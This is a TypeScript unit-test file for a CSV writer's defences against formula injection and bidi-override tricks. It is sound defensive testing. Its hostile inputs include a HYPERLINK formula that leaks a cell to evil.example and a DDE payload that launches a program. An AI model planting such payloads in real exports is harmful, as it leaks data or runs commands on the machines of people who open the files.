/**
 * Muster's one CSV writer (docs/http-api.md#csv): RFC 4180 records, and no text cell that a
 * spreadsheet would run as a formula (OWASP "CSV Injection") or that reverses its line.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csvDocument, csvLine } from '../../src/domain/csv-record.ts';

describe('the CSV writer', () => {
  it('writes a leading quote before text starting with =, +, -, @, tab or CR', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      "=cmd|' /C calc'!A0",
      '\uFF1D1+1',
    ];
    assert.equal(
      csvLine(hostile),
      [
        `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`,
        "'+1+1",
        "'-2+3",
        "'@SUM(A1:A9)",
        `"'\t=1+1"`,
        `"'\r=1+1"`,
        "'=cmd|' /C calc'!A0",
        "'\uFF1D1+1",
      ].join(','),
    );
  });

  it('leaves numbers as numbers: a negative one keeps its minus sign and no quote', () => {
    assert.equal(csvLine([-0.25, -3, 0, 1.5, Number.NaN, Infinity]), '-0.25,-3,0,1.5,,');
    assert.equal(csvLine(['-0.25']), "'-0.25", 'the same text is text');
  });

  it('takes bidi embeddings, overrides and isolates out of text, before the formula check', () => {
    assert.equal(
      csvLine(['Orcs\u202E sbolG', '\u202E=1+1', '\u2067x\u2069']),
      "Orcs sbolG,'=1+1,x",
    );
    assert.equal(csvLine(['\u200Fמרקוס']), '\u200Fמרקוס', 'an implicit mark stays');
  });

  it('quotes what RFC 4180 asks for, a lone CR or LF included, and a ; or tab inside a cell', () => {
    assert.equal(
      csvLine(['Orcs, Goblins', 'The "Host"', 'two\nlines', 'cr\ronly', 'a;=1+1', 'a\tb']),
      '"Orcs, Goblins","The ""Host""","two\nlines","cr\ronly","a;=1+1","a\tb"',
    );
  });

  it('writes a header and rows, each record ending in CRLF; nothing is empty, flags are words', () => {
    assert.equal(csvDocument(['a', 'b'], []), 'a,b\r\n');
    assert.equal(
      csvDocument(
        ['name', 'online', 'n'],
        [
          ['x', true, null],
          ['', false, undefined],
        ],
      ),
      'name,online,n\r\nx,true,\r\n,false,\r\n',
    );
  });
});
